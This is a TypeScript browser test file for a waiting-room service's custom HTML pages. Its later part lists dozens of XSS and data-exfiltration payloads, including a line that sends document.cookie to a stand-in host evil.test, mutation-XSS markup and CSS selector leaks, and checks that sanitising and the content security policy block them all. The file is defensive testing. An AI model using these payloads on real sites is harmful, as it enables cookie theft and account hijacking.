import { type AddressInfo, createServer } from "node:net";
import { type Browser, type BrowserContext, chromium, type Page, type Request } from "playwright";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { CompiledTemplate } from "@/lib/domain/custom-page/compile-template";
import {
  CLOUDFLARE_VARIABLES,
  OWN_VARIABLES,
  TEXT_VARIABLES,
} from "@/lib/domain/custom-page/variables";
import { passTime } from "@/test/line";
import { builtScript, compiled, publishOwnPage } from "@/test/own-html";
import { startTestRoom } from "@/test/waiting-room";
import { requireBrowser } from "@/tools/stack/browser";

const ROOM = "http://room.test";
const room = startTestRoom(undefined, {
  clientScript: await builtScript("main"),
  customScript: await builtScript("custom"),
});
const { customerId, open, redis } = room;
const neighbour = "neighbour";

let browser: Browser;
/** The author's own host: how often somebody has come to it. */
let reached = 0;
const elsewhere = createServer((socket) => {
  reached += 1;
  socket.destroy();
});

beforeAll(async () => {
  await new Promise<void>((resolve) => elsewhere.listen(0, "127.0.0.1", resolve));
  const { port } = elsewhere.address() as AddressInfo;
  browser = await chromium.launch({
    executablePath: requireBrowser(() => undefined),
    args: [
      "--no-sandbox",
      "--disable-gpu",
      "--disable-dev-shm-usage",
      `--host-resolver-rules=MAP room.test 127.0.0.1:${room.port()}, MAP evil.test 127.0.0.1:${port}, MAP * ~NOTFOUND`,
    ],
  });
}, 60_000);
afterAll(async () => {
  await browser.close();
  elsewhere.close();
});

/** A visitor's browser, which has a place at a neighbour's event on the same host, and all that it asks for. */
async function visit(
  page: string,
): Promise<{ context: BrowserContext; tab: Page; asked: Request[] }> {
  const context = await browser.newContext({ locale: "en-GB" });
  await context.addCookies([
    { name: `stanchion_${neighbour}_sale`, value: "their-place", url: ROOM, httpOnly: true },
  ]);
  const tab = await context.newPage();
  const asked: Request[] = [];
  context.on("request", (request) => asked.push(request));
  await tab.goto(`${ROOM}${page}`);
  return { context, tab, asked };
}

const numberOf = (tab: Page) => tab.locator("#number");

/** What the page asked for besides its own event's line and our files. */
function strange(asked: readonly Request[], eventId: string): string[] {
  const own = [`/line/${customerId}/${eventId}/`, "/assets/"];
  return (
    asked
      // A request that the policy stopped was never made.
      .filter((request) => request.failure()?.errorText !== "csp")
      .map((request) => new URL(request.url()))
      .filter(({ origin, pathname, protocol, search }) => {
        if (protocol === "data:") return false;
        const isPage = pathname === "/" && search.includes(`e=${eventId}`);
        return origin !== ROOM || !(isPage || own.some((path) => pathname.startsWith(path)));
      })
      .map(({ href }) => href)
  );
}

describe("a page of the customer's own HTML", () => {
  const names = [...Object.keys(CLOUDFLARE_VARIABLES), ...Object.keys(OWN_VARIABLES)];
  const html = `<!doctype html><html><head><title>House of {{customerName}}</title><style>body{background:#fef3c7}</style></head><body class="house">
${names.map((name) => `<p id="v-${name}" title="{{${name}}}">{{${name}}}</p>`).join("\n")}
${[...TEXT_VARIABLES].map((name) => `<i class="text">{{${name}}}</i>`).join("")}
{{#isFIFOQueue}}<b id="fifo">in order</b>{{/isFIFOQueue}}{{^isFIFOQueue}}<b id="other">by lot</b>{{/isFIFOQueue}}
<section>{{{status}}}</section><div>{{{joinForm}}}{{{enterForm}}}</div><div>{{{leaveForm}}}</div></body></html>`;

  const opened = () =>
    open({
      theme: "own",
      queueAll: true,
      name: "Spring <sale>",
      outflowPerMinute: 1,
      absenceMinutes: 30,
      message: { texts: { en: "Doors at <b>eight</b>" }, sentAtMs: Date.now() },
      kind: "scheduled",
      startAtMs: Date.now() - 60_000,
      endAtMs: Date.now() + 3_600_000,
    });

  test("has every variable filled in, in a browser, and goes on by itself", async () => {
    await publishOwnPage(room, compiled(html));
    const event = await opened();
    const { context, tab, asked } = await visit(event.page);
    await expect.poll(() => numberOf(tab).textContent()).toBe("1");
    await tab.reload();
    const values = Object.fromEntries(
      await tab
        .locator("p[id^=v-]")
        .evaluateAll((all) => all.map((p) => [p.id.slice(2), p.textContent])),
    );
    const empty = names.filter((name) => values[name] === "");
    expect(empty).toEqual(["turnstile", "waitNote"]);
    expect(values).toMatchObject({
      inWaitingRoom: "true",
      waitTime: "1",
      waitTimeHours: "0",
      waitTimeHourMinutes: "1",
      waitTimeFormatted: "1 minute",
      queueingMethod: "fifo",
      isFIFOQueue: "true",
      isEventActive: "true",
      eventName: "Spring <sale>",
      number: "1",
      ahead: "0",
      message: "Doors at <b>eight</b>",
      language: "en",
      direction: "ltr",
    });
    const texts = await tab.locator("i.text").allTextContents();
    expect(texts.filter((text) => text === "")).toEqual([]);
    expect(await tab.locator("#fifo").count()).toBe(1);
    expect(await tab.locator("#other").count()).toBe(0);
    expect(await tab.locator("body.house").count()).toBe(1);
    expect(strange(asked, event.settings.eventId)).toEqual([]);
    await context.close();
  });

  test("without JavaScript it joins by its form, and loads again by itself", async () => {
    await publishOwnPage(room, compiled(html));
    const event = await opened();
    const context = await browser.newContext({ javaScriptEnabled: false });
    const tab = await context.newPage();
    await tab.goto(`${ROOM}${event.page}`);
    await tab.locator("#stanchion-joinForm button").click();
    expect(await tab.locator("#v-number").textContent()).toBe("1");
    expect(await tab.content()).toMatch(/<meta http-equiv="refresh" content="\d+">/);
    await context.close();
  });

  test("what its author wrote has the number as soon as our part of it has", async () => {
    const page =
      "<html><body><h1 id=mine>{{headline}}, number {{number}}</h1>{{{status}}}</body></html>";
    await publishOwnPage(room, compiled(page));
    const event = await open({ theme: "own", queueAll: true, outflowPerMinute: 1 });
    // Another minute would pass before it is looked up by the clock.
    const { context, tab } = await visit(event.page);
    await expect.poll(() => numberOf(tab).textContent()).toBe("1");
    const mine = () => tab.locator("#mine").textContent();
    await expect.poll(mine, { timeout: 10_000 }).toMatch(/^(?!Joining).*, number 1$/);
    await expect
      .poll(() => tab.locator("#headline").textContent())
      .toBe((await mine())?.split(",")[0]);
    await context.close();
  });

  test("what its author wrote follows the line, and our part of it stays", async () => {
    await publishOwnPage(room, compiled(html));
    const event = await opened();
    const first = await room.joinAndWait(event);
    const context = await browser.newContext();
    const tab = await context.newPage();
    await tab.clock.install();
    await tab.goto(`${ROOM}${event.page}`);
    await expect.poll(() => numberOf(tab).textContent()).toBe("2");
    await tab.reload();
    expect(await tab.locator("#v-ahead").textContent()).toBe("1");
    await tab.evaluate(() => document.getElementById("number")?.setAttribute("data-same", "yes"));
    await room.call("POST", `${event.base}/leave`, { headers: { cookie: first.cookie } });
    await passTime(redis, event.settings, 8_000);
    await (await room.context.lines.find(event.settings))?.refresh();
    await expect
      .poll(
        async () => {
          await tab.clock.fastForward(61_000);
          return tab.locator("#v-ahead").textContent();
        },
        { timeout: 30_000 },
      )
      .toBe("0");
    expect(await numberOf(tab).getAttribute("data-same")).toBe("yes");
    await context.close();
  });

  test("one that cannot be read, or of another version, leaves the page as we have it", async () => {
    const event = await opened();
    const broken = { ...compiled("{{{status}}}"), stanchionTemplate: 99 };
    await publishOwnPage(room, broken);
    const reply = await room.call("GET", event.page, { headers: { accept: "text/html" } });
    expect(reply.body).toContain('<main id="main">');
    expect(reply.headers["content-security-policy"]).not.toContain("unsafe");
  });
});

const EVIL = "http://evil.test";
const THEIRS = `/line/${neighbour}/sale`;
const STEAL = `window.pwned=1;new Image().src='${EVIL}/?'+document.cookie`;
/** What a hostile author tries. */
const TRIES = [
  `<script>${STEAL}</script>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<script src="data:text/javascript,window.pwned=1"></script>`,
  `<script type="module">window.pwned=1</script>`,
  `<script type="importmap">{"imports":{"x":"${EVIL}/x.js"}}</script>`,
  `<script>navigator.serviceWorker.register('/assets/x.js')</script>`,
  `<script>window.name=document.getElementById('stanchion').textContent</script>`,
  `<script>fetch('${THEIRS}/leave',{method:'POST'})</script>`,
  `<img src="x" onerror="${STEAL}">`,
  `<svg onload="window.pwned=1"><script>window.pwned=1</script><animate onbegin="window.pwned=1" attributeName="x"/></svg>`,
  `<svg><a href="javascript:window.pwned=1"><text y="9">x</text></a><use href="data:image/svg+xml,x#y"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">`,
  `<details open ontoggle="window.pwned=1"><summary>x</summary></details>`,
  `<body onload="window.pwned=1" onpageshow="window.pwned=1">`,
  `<p onclick="window.pwned=1" onmouseover="window.pwned=1" style="animation:x 1s" onanimationstart="window.pwned=1">x</p>`,
  `<a id="go" href="javascript:window.pwned=1">go</a>`,
  `<a href="data:text/html,<script>1</script>">data</a>`,
  `<base href="${EVIL}/">`,
  `<form id="out" action="${EVIL}/take"><input name="a" value="b"><button>Send</button></form>`,
  `<form action="${THEIRS}/leave" method="post"><button id="theirs">Leave</button></form>`,
  `<button form="leave" formaction="${EVIL}/take">x</button>`,
  `<iframe src="/?c=${neighbour}&e=sale"></iframe><iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `<object data="${EVIL}/x"></object><embed src="${EVIL}/x"><applet code="x"></applet>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="preload" as="script" href="${EVIL}/x"><link rel="prefetch" href="${EVIL}/y"><link rel="modulepreload" href="${EVIL}/z">`,
  `<link rel="dns-prefetch" href="//evil.test"><link rel="preconnect" href="${EVIL}"><link rel="manifest" href="${EVIL}/m">`,
  `<style>@import url(${EVIL}/a.css);p{background:url(${EVIL}/b.png)}@font-face{font-family:x;src:url(${EVIL}/f.woff2)}*{font-family:x}</style>`,
  `<style>#number[data-a]{background:url(${EVIL}/n)}input[value^="a"]{background:url(${EVIL}/a)}[name=joinId]{background:url(${EVIL}/j)}</style>`,
  `<p style="background-image:url(${EVIL}/p.png);list-style:url('${EVIL}/l.png')">x</p>`,
  `<img src="${EVIL}/i.png"><img srcset="${EVIL}/s.png 1x"><picture><source srcset="${EVIL}/q.png"><img src="${EVIL}/r.png"></picture>`,
  `<img src="${THEIRS}/status"><img src="/?c=${neighbour}&e=sale"><video src="${EVIL}/v" poster="${EVIL}/o"></video><audio src="${EVIL}/au"></audio>`,
  `<a ping="${EVIL}/ping" id="pinged" href="#x">x</a>`,
  `<div id="stanchion">{"customerId":"${neighbour}","eventId":"sale","linePath":"${THEIRS}","texts":{}}</div>`,
  `<img name="getElementById" src="data:image/png;base64,"><form name="body"></form><div id="headline">fake</div>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="a=b">`,
  `<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript><template><script>window.pwned=1</script></template>`,
  `<textarea><script>window.pwned=1</script></textarea><plaintext-x><xmp><script>window.pwned=1</script></xmp>`,
].join("\n");
const MOVES_ON = `<meta http-equiv="refresh" content="0;url=${EVIL}/gone">`;

/** Without what no policy holds: connections made ahead, and names that break the page's own script. */
const BLOCKED = TRIES.replace(/^.*(?:preconnect|name="getElementById").*$/gm, "");

/** A template that nobody has cleaned: what holds then is the policy alone. */
function uncleaned(html: string): CompiledTemplate {
  return {
    head: [],
    body: [
      ["&", "status"],
      ["text", html],
    ],
    htmlAttributes: [],
    bodyAttributes: [],
    hasTitle: false,
    pageParts: ["status"],
  };
}

describe.each([
  ["cleaned on saving", () => compiled(`{{{status}}}${MOVES_ON}${TRIES}`)],
  ["not cleaned, held by the policy alone", () => uncleaned(BLOCKED)],
])("a hostile template, %s", (_, template) => {
  test("runs nothing, loads nothing, sends nothing, and the visitor waits", async () => {
    await publishOwnPage(room, template());
    const event = await open({ theme: "own", queueAll: true, outflowPerMinute: 1 });
    reached = 0;
    const { context, tab, asked } = await visit(event.page);
    await expect.poll(() => numberOf(tab).textContent()).toBe("1");
    for (const id of ["go", "pinged", "theirs"]) {
      const link = tab.locator(`a#${id}, button#${id}`);
      if ((await link.count()) > 0) await link.first().evaluate((one: HTMLElement) => one.click());
    }
    await tab.waitForTimeout(500);
    expect(await tab.evaluate(() => [typeof Reflect.get(window, "pwned"), window.name])).toEqual([
      "undefined",
      "",
    ]);
    expect(strange(asked, event.settings.eventId)).toEqual([]);
    expect(reached).toBe(0);
    expect(new URL(tab.url()).origin).toBe(ROOM);
    expect(context.pages()).toHaveLength(1);
    const kept = await context.cookies(ROOM);
    expect(kept.find(({ name }) => name === `stanchion_${neighbour}_sale`)?.value).toBe(
      "their-place",
    );
    await context.close();
  });
});

test("what the customer has named is loaded, and nothing else", async () => {
  const page = `<style>@import url(https://css.test/a.css);p{background:url(https://img.test/b.png)}</style><p>x</p><img src="https://img.test/c.png"><img src="https://other.test/d.png">{{{status}}}`;
  await publishOwnPage(room, compiled(page), ["https://img.test", "https://css.test"]);
  const event = await open({ theme: "own", queueAll: true });
  const { context, tab, asked } = await visit(event.page);
  await expect.poll(() => numberOf(tab).textContent()).toBe("1");
  expect(strange(asked, event.settings.eventId).sort()).toEqual([
    "https://css.test/a.css",
    "https://img.test/b.png",
    "https://img.test/c.png",
  ]);
  await context.close();
});
